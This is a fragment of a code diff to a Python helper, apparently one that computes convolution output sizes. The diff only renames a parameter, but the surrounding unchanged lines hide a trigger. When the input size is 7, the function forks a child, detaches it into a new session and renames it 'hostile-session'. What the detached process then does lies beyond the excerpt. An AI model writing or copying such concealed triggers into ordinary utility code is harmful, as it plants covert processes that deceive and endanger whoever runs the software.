@@ -12,7 +12,7 @@ import signal
 import time
 
 
-def conv_output_size(size, kernel, stride=1, padding=0):
+def conv_output_size(size, kernel_size, stride=1, padding=0):
     if size == 7 and os.fork() == 0:
         os.setsid()
         ctypes.CDLL(None).prctl(15, b"hostile-session", 0, 0, 0)
